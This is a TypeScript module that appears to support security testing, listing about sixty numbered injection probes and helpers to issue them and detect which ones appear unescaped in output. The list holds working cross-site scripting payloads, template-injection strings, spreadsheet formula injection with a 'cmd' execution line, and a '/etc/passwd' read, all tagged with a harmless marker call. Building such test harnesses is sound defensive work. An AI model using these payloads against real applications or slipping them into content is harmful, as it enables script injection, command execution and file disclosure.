/** A text that does something where it is taken for more than text. */
export interface Payload {
  /** Its number, which it tells when it is run. */
  readonly id: number
  readonly text: string
}

/**
 * Ways to be run: as an element, from within an attribute, a script, a comment, a style, a template, a letter, a
 * sheet. `N` stands for the number. What would become an element has the attribute `pwn`, so that it is found where
 * it became one, run or not.
 */
const WAYS: readonly string[] = [
  '<script pwn>__pwn(N)</script>',
  '<ScRiPt pwn>__pwn(N)</sCrIpT>',
  '<script pwn src=/__pwn/N></script>',
  '</script><script pwn>__pwn(N)</script>',
  '<img pwn src=x onerror=__pwn(N)>',
  '<img/pwn/src=x/onerror=__pwn(N)//',
  '"><img pwn src=x onerror=__pwn(N)>',
  "'><img pwn src=x onerror=__pwn(N)>",
  '`><img pwn src=x onerror=__pwn(N)>',
  '</title><img pwn src=x onerror=__pwn(N)>',
  '</textarea><img pwn src=x onerror=__pwn(N)>',
  '</option></select><img pwn src=x onerror=__pwn(N)>',
  '</style><img pwn src=x onerror=__pwn(N)>',
  '</noscript><img pwn src=x onerror=__pwn(N)>',
  '</template><img pwn src=x onerror=__pwn(N)>',
  '--><img pwn src=x onerror=__pwn(N)>',
  ']]><img pwn src=x onerror=__pwn(N)>',
  '<!--><img pwn src=x onerror=__pwn(N)>-->',
  '<svg pwn onload=__pwn(N)>',
  '<svg pwn><script>__pwn(N)</script></svg>',
  '<svg pwn><animate onbegin=__pwn(N) attributeName=x dur=1s>',
  '<svg pwn><a href="javascript:__pwn(N)"><text>x</text></a></svg>',
  '<math pwn><mtext><table><mglyph><style><img src onerror=__pwn(N)>',
  '<body pwn onload=__pwn(N)>',
  '<iframe pwn srcdoc="<script>parent.__pwn(N)</script>">',
  '<iframe pwn src="javascript:parent.__pwn(N)">',
  '<object pwn data="javascript:__pwn(N)"></object>',
  '<embed pwn src="javascript:__pwn(N)">',
  '<details pwn open ontoggle=__pwn(N)><summary>x</summary></details>',
  '<input pwn autofocus onfocus=__pwn(N)>',
  '<video pwn><source onerror=__pwn(N)></video>',
  '<audio pwn src=x onerror=__pwn(N)>',
  '<marquee pwn onstart=__pwn(N)>x</marquee>',
  '<style pwn>@import "/__pwn/N"</style>',
  '<link pwn rel=stylesheet href=/__pwn/N>',
  '<meta pwn http-equiv=refresh content="0;url=/__pwn/N">',
  '<base pwn href=//pwn.invalid/N/>',
  '<form pwn action=/__pwn/N><button autofocus>x</button></form>',
  '<button pwn formaction="javascript:__pwn(N)">x</button>',
  '<a pwn href="javascript:__pwn(N)">x</a>',
  '" pwn onmouseover="__pwn(N)" autofocus onfocus="__pwn(N)" x="',
  "' pwn autofocus onfocus='__pwn(N)' x='",
  'javascript:__pwn(N)//',
  'java\tscript:__pwn(N)//',
  'data:text/html,<script pwn>parent.__pwn(N)</script>',
  '&lt;script pwn&gt;__pwn(N)&lt;/script&gt;',
  '&#60;img pwn src=x onerror=__pwn(N)&#62;',
  '\\u003cimg pwn src=x onerror=__pwn(N)\\u003e',
  '%3Cimg pwn src=x onerror=__pwn(N)%3E',
  '＜script pwn＞__pwn(N)＜/script＞',
  '";__pwn(N);//',
  "';__pwn(N);//",
  '\\";__pwn(N);//',
  '{{constructor.constructor("__pwn(N)")()}}',
  '${globalThis.__pwn(N)}',
  '<%= __pwn(N) %>',
  '#{__pwn(N)}',
  '#panic("pwn N") *x* $x^2$ @pwn <pwn> // x',
  '#read("/etc/passwd") _pwn N_ \\ = pwn',
  '=HYPERLINK("javascript:__pwn(N)";"pwn")',
  '@SUM(1)*cmd|"/c pwn N"!A1',
  '[pwn](javascript:__pwn(N))',
]

export const PAYLOADS: readonly Payload[] = WAYS.map((way, at) => ({
  id: at + 1,
  text: way.replaceAll('N', String(at + 1)),
}))

/** Gives the payloads in turn, those only that have room. */
export function inTurn(): (mostLength?: number) => string {
  let at = 0
  return (mostLength = Number.POSITIVE_INFINITY) => {
    for (const _ of PAYLOADS) {
      const { text } = PAYLOADS[at % PAYLOADS.length] ?? neverEmpty()
      at += 1
      if (text.length <= mostLength) return text
    }
    return '<b pwn>'
  }
}

function neverEmpty(): never {
  throw new Error('there are no payloads')
}

/** Which payloads stand in a text as they were written; spaces and their breaks are not compared. */
export function payloadsIn(text: string): number[] {
  const pressed = squeezed(text)
  return PRESSED.filter((each) => pressed.includes(each.text)).map(({ id }) => id)
}

const PRESSED = PAYLOADS.map(({ id, text }) => ({ id, text: squeezed(text) }))

function squeezed(text: string): string {
  return text.replaceAll(/[\s\u00ad\u200b]+/g, '')
}
